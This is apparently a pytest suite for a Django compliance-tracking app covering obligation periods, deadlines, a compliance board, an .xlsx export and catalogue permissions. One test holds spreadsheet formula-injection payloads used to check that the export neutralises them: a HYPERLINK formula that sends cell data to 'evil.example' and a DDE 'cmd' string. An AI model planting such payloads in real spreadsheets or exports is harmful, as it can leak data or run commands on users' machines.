"""公开目录 and the compliance board: owed, published on time, late, missing — per organisation, with an
.xlsx export; entries kept by higher committees."""

import datetime as dt
import io
import zipfile
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from openness import rules, services
from openness.models import CatalogueEntry, Obligation

from .conftest import publish

SHANGHAI = ZoneInfo("Asia/Shanghai")


def test_periods_and_their_bounds():
    assert rules.period_label(dt.date(2026, 2, 17), "quarterly") == "2026-Q1"
    assert rules.period_bounds("2026-Q4", "quarterly") == (dt.date(2026, 10, 1), dt.date(2026, 12, 31))
    assert rules.period_bounds("2026-02", "monthly") == (dt.date(2026, 2, 1), dt.date(2026, 2, 28))
    assert rules.periods_between(dt.date(2026, 2, 1), dt.date(2026, 7, 1), "quarterly") == [
        "2026-Q1",
        "2026-Q2",
        "2026-Q3",
    ]
    assert not rules.period_is_valid("2026-Q5", "quarterly")
    assert not rules.period_is_valid("2026-Q1", "yearly")


@pytest.fixture
def dues():
    return CatalogueEntry.objects.get(key="dues.collection")


def test_obligations_are_opened_for_each_period_begun_once(tree, dues, time_machine):
    time_machine.move_to(dt.datetime(2026, 5, 10, 9, 0, tzinfo=SHANGHAI), tick=False)
    Obligation.objects.all().delete()
    from branches.models import Organisation

    Organisation.objects.update(created_at=dt.datetime(2026, 1, 5, tzinfo=SHANGHAI))
    created = services.open_obligations()
    assert created > 0
    assert services.open_obligations() == 0
    periods = set(Obligation.objects.filter(entry=dues, organisation=tree.a).values_list("period", flat=True))
    assert periods == {"2026-Q1", "2026-Q2"}
    q1 = Obligation.objects.get(entry=dues, organisation=tree.a, period="2026-Q1")
    # 31 March (Tue) + 5 working days; 4–6 April is the Qingming holiday: 1, 2, 3, 7, 8 April.
    assert q1.due_on == dt.date(2026, 4, 8)


def test_the_compliance_board_counts_on_time_late_missing_and_not_yet_due(
    client, tree, sam, olga, victor, dues, time_machine
):
    time_machine.move_to(dt.datetime(2026, 4, 7, 10, 0, tzinfo=SHANGHAI), tick=False)
    on_time = publish(
        author=sam, reviewer=olga, approver=sam, org=tree.a, catalogue_entry=dues, period="2026-Q1"
    )
    time_machine.move_to(dt.datetime(2026, 4, 20, 10, 0, tzinfo=SHANGHAI), tick=False)
    bob_secretary = _secretary(tree.b)
    publish(
        author=bob_secretary,
        reviewer=olga,
        approver=bob_secretary,
        org=tree.b,
        catalogue_entry=dues,
        period="2026-Q1",
    )
    services.event_obligation(
        organisation=tree.b,
        entry=CatalogueEntry.objects.get(key="election.results"),
        day=dt.date(2026, 4, 1),
        event_key="election.results:1:1",
    )
    services.periodic_obligation(tree.a, dues, "2026-Q2")

    client.force_login(victor)
    response = client.get(reverse("openness:compliance") + "?year=2026")
    assert response.status_code == 200
    rows = {r["organisation__name"]: r for r in response.context["rows"]}
    a, b = rows[tree.a.name], rows[tree.b.name]
    assert (a["owed"], a["on_time"], a["late"], a["missing"], a["pending"]) == (2, 1, 0, 0, 1)
    assert (b["owed"], b["on_time"], b["late"], b["missing"], b["pending"]) == (2, 0, 1, 1, 0)
    assert 'id="compliance-data"' in response.text  # the chart's data, via json_script
    assert "chart.umd.min.js" in response.text
    assert on_time.obligation.fulfilled_by_id == on_time.pk


def _secretary(org):
    from tests.conftest import _persona

    return _persona("bert", org, role="secretary", name="白书记")


def test_the_compliance_export_is_an_xlsx_with_a_summary_and_every_obligation(
    client, tree, sam, olga, victor, dues
):
    publish(author=sam, reviewer=olga, approver=sam, org=tree.a, catalogue_entry=dues)
    client.force_login(victor)
    response = client.get(reverse("openness:compliance_export"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(response.content))
    summary, detail = book.worksheets
    names = [row[0] for row in summary.iter_rows(min_row=2, values_only=True)]
    assert tree.a.name in names
    assert any(row[1] == dues.name for row in detail.iter_rows(min_row=2, values_only=True))


@pytest.mark.parametrize(
    "title",
    ['=HYPERLINK("https://evil.example/?"&A1,"点此")', "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1"],
)
def test_the_compliance_export_never_holds_a_formula(client, tree, sam, olga, victor, dues, title):
    """Formula injection: names and titles that begin like a formula are text cells in the workbook."""
    from branches.models import Organisation

    Organisation.objects.filter(pk=tree.a.pk).update(name="=cmd|' /C calc'!A0")
    CatalogueEntry.objects.filter(pk=dues.pk).update(name="-2+3")
    publish(author=sam, reviewer=olga, approver=sam, org=tree.a, catalogue_entry=dues, title=title)
    client.force_login(victor)
    response = client.get(reverse("openness:compliance_export"))

    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 2 and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    summary, detail = load_workbook(io.BytesIO(response.content)).worksheets
    cells = [c for row in (*summary.iter_rows(min_row=2), *detail.iter_rows(min_row=2)) for c in row]
    hostile = [c for c in cells if isinstance(c.value, str) and c.value.lstrip("\t\r\n")[:1] in "=+-@"]
    assert {c.value for c in hostile} >= {"=cmd|' /C calc'!A0", "-2+3"}
    assert any(c.value.strip() == title.strip() for c in hostile)  # the title, character for character
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)


def test_the_compliance_board_is_scoped_to_what_the_user_oversees(client, tree, sam, olga, alice, dues):
    services.periodic_obligation(tree.c, dues, "2026-Q1")
    services.periodic_obligation(tree.a, dues, "2026-Q1")
    client.force_login(sam)
    names = {
        r["organisation__name"]
        for r in client.get(reverse("openness:compliance") + "?year=2026").context["rows"]
    }
    assert names == {tree.a.name}
    client.force_login(alice)
    assert client.get(reverse("openness:compliance")).status_code == 403
    client.force_login(olga)
    assert client.get(reverse("openness:compliance") + f"?org={tree.c.pk}").status_code == 404


def test_a_higher_committee_keeps_entries_for_its_subtree_and_a_branch_cannot(client, tree, sam, olga):
    client.force_login(olga)
    data = {
        "key": "town.volunteers",
        "name": "志愿服务情况",
        "category": "daily",
        "frequency": "quarterly",
        "applies_to": ["branch"],
        "deadline_working_days": 10,
        "scope": "internal",
        "starts_on": "2026-01-01",
        "is_active": "on",
    }
    response = client.post(reverse("openness:entry_new", args=[tree.town.pk]), data)
    assert response.status_code == 302
    entry = CatalogueEntry.objects.get(key="town.volunteers")
    assert entry.organisation == tree.town
    client.force_login(sam)
    assert client.get(reverse("openness:entry_new", args=[tree.a.pk])).status_code == 403
    assert client.get(reverse("openness:entry_edit", args=[entry.pk])).status_code == 403
    default = CatalogueEntry.objects.get(key="dues.collection")
    client.force_login(olga)
    assert client.get(reverse("openness:entry_edit", args=[default.pk])).status_code == 403  # administrators'


def test_an_entry_of_one_town_does_not_apply_to_another(tree, olga):
    from openness.services.catalogue import entries_for

    entry = services.save_entry(
        actor=olga,
        organisation=tree.town,
        key="town.only",
        name="本镇事项",
        category="daily",
        frequency="yearly",
        applies_to=["branch"],
        deadline_working_days=5,
        scope="internal",
        starts_on=dt.date(2026, 1, 1),
    )
    assert entry in entries_for(tree.a)
    assert entry not in entries_for(tree.c)
